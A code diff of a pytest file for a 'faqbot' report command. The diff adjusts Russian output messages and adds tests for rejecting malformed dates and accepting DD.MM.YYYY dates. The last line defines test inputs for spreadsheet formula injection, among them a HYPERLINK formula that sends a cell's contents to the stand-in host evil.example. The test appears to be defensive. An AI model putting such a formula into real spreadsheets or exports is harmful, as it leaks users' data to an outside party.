@@ -58,7 +58,7 @@ def test_report_writes_the_page_and_every_table(
          "--since", "2025-01-10", "--until", "2025-01-11"]
     )  # fmt: skip
     assert status == 0
-    assert "4 вопросов" in capsys.readouterr().out
+    assert "Вопросов за период: 4." in capsys.readouterr().out
     page = out.read_text(encoding="utf-8")
     assert "data:image/png;base64," in page
     # The last day asked for, not the day after it; the time as the console shows it.
@@ -128,6 +128,27 @@ def test_a_day_at_the_ends_of_the_calendar_is_refused(
     assert status == 1
     assert f"Дата {day} вне допустимого диапазона" in capsys.readouterr().err
     assert not out.exists()
+
+
+@pytest.mark.parametrize("day", ["2026-13-01", "вчера", "31.02.2026"])
+def test_a_day_that_is_no_date_is_refused_in_russian(
+    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], day: str
+) -> None:
+    out = tmp_path / "report.html"
+    assert main(["report", "--database", url, "--out", str(out), "--since", day]) == 1
+    assert capsys.readouterr().err == (
+        f"faqbot: Дата начала периода «{day}» не распознана: напишите день как 2026-10-05 "
+        "или 05.10.2026.\n"
+    )
+    assert not out.exists()
+
+
+def test_a_day_typed_the_russian_way_is_taken(
+    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    out = tmp_path / "report.html"
+    assert main(["report", "--database", url, "--out", str(out), "--until", "10.01.2025"]) == 0
+    assert "Вопросов за период: 2." in capsys.readouterr().out
 
 
 FORMULA_QUESTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "@SUM(1,1) ошибка")
